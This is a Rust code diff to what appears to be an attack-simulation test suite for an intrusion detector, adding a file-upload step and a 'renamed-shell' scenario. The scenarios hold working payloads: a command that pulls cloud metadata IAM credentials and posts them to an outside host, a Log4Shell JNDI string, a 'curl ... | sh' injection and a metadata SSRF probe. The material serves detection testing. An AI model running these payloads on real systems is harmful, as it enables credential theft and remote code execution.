@@ -78,6 +78,8 @@ pub(super) struct Visit {
     path: &'static str,
     /// The rest, before encoding.
     payload: &'static str,
+    /// File that is posted.
+    upload: Option<&'static str>,
 }
 
 impl Visit {
@@ -85,33 +87,45 @@ impl Visit {
     pub(super) fn shot(&self) -> Shot {
         Shot {
             from: self.from,
-            method: "GET".into(),
+            method: self.method().into(),
             target: format!("{}{}", self.path, percent_encode(self.payload)),
             user_agent: self.user_agent.into(),
+            upload: self.upload.map(str::to_owned),
         }
     }
 
     /// As its author meant it.
     pub(super) fn plain(&self) -> String {
-        format!("GET {}{}", self.path, self.payload)
+        format!("{} {}{}", self.method(), self.path, self.payload)
+    }
+
+    const fn method(&self) -> &'static str {
+        if self.upload.is_some() { "POST" } else { "GET" }
     }
 }
 
 const fn user(path: &'static str) -> Step {
-    Step::Visit(Visit { from: USER, user_agent: "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", path, payload: "" })
+    let user_agent = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0";
+    Step::Visit(Visit { from: USER, user_agent, path, payload: "", upload: None })
 }
 
 const fn monitor() -> Step {
-    Step::Visit(Visit { from: MONITOR, user_agent: "uptime-monitor/2", path: "/health", payload: "" })
+    Step::Visit(Visit { from: MONITOR, user_agent: "uptime-monitor/2", path: "/health", payload: "", upload: None })
 }
 
 const fn scanner(path: &'static str, payload: &'static str) -> Step {
-    Step::Visit(Visit { from: SCANNER, user_agent: "Mozilla/5.0 zgrab/0.x", path, payload })
+    Step::Visit(Visit { from: SCANNER, user_agent: "Mozilla/5.0 zgrab/0.x", path, payload, upload: None })
 }
 
 const fn attack(path: &'static str, payload: &'static str) -> Step {
-    Step::Attack(Visit { from: INTRUDER, user_agent: "Mozilla/5.0 (Windows NT 10.0) Chrome/126.0", path, payload })
+    Step::Attack(Visit { from: INTRUDER, user_agent: INTRUDER_AGENT, path, payload, upload: None })
 }
+
+const fn upload(path: &'static str, file: &'static str) -> Step {
+    Step::Visit(Visit { from: INTRUDER, user_agent: INTRUDER_AGENT, path, payload: "", upload: Some(file) })
+}
+
+const INTRUDER_AGENT: &str = "Mozilla/5.0 (Windows NT 10.0) Chrome/126.0";
 
 /// The service's ordinary life: pages, a supplier pinged through a shell, a payment, its own credentials.
 const LIFE: &[Step] = &[
@@ -125,13 +139,8 @@ const LIFE: &[Step] = &[
 ];
 
 /// The same for a service that never asked for credentials.
-const LIFE_WITHOUT_CREDENTIALS: &[Step] = &[
-    monitor(),
-    user("/"),
-    user("/ping?host=10.20.0.1"),
-    user("/checkout"),
-    user("/preview?url=http://192.0.2.80:443/"),
-];
+const LIFE_WITHOUT_CREDENTIALS: &[Step] =
+    &[monitor(), user("/"), user("/products?id=1"), user("/ping?host=10.20.0.1"), user("/checkout"), monitor()];
 
 const STEAL_CREDENTIAL: Step = attack(
     "/ping?host=",
@@ -230,6 +239,29 @@ pub static SCENARIOS: &[Scenario] = &[
         simulated: None,
     },
     Scenario {
+        name: "renamed-shell",
+        about: "a copy of the shell under another name, uploaded and run without any shell in between",
+        needs: &["curl"],
+        ipv6: false,
+        life: LIFE,
+        steps: &[
+            user("/"),
+            upload("/upload?name=thumbnailer", "/bin/sh"),
+            attack(
+                "/plugin?name=thumbnailer&option=-c&value=",
+                "M=http://169.254.169.254/latest/meta-data/iam/security-credentials/; curl -s $M$(curl -s $M) | curl -s --data-binary @- http://203.0.113.66/drop",
+            ),
+            user("/products?id=1"),
+        ],
+        expect: Expect::Incident {
+            severity: Severity::Critical,
+            stages: ALL_STAGES,
+            provisional_first: false,
+            loot: ACCESS_KEY_ID,
+        },
+        simulated: None,
+    },
+    Scenario {
         name: "ipv6-metadata",
         about: "the full chain with the metadata service asked over IPv6",
         needs: &["curl"],
@@ -287,6 +319,7 @@ pub static SCENARIOS: &[Scenario] = &[
             scanner("/?x=", "${jndi:ldap://203.0.113.99/a}"),
             scanner("/status?name=", "x; curl http://203.0.113.99/x.sh | sh"),
             user("/ping?host=10.20.0.1"),
+            user("/preview?url=http://192.0.2.80:443/"),
             monitor(),
             scanner("/page?u=", "http://169.254.169.254/latest/meta-data/"),
             Step::Service(Order::RefreshCredential),
@@ -329,7 +362,7 @@ mod tests {
 
     #[test]
     fn a_payload_is_encoded_and_can_be_read_back() {
-        let visit = Visit { from: USER, user_agent: "", path: "/ping?host=", payload: "a; b|c" };
+        let visit = Visit { from: USER, user_agent: "", path: "/ping?host=", payload: "a; b|c", upload: None };
         assert_eq!(visit.shot().target, "/ping?host=a%3B%20b%7Cc");
         assert_eq!(visit.plain(), "GET /ping?host=a; b|c");
     }
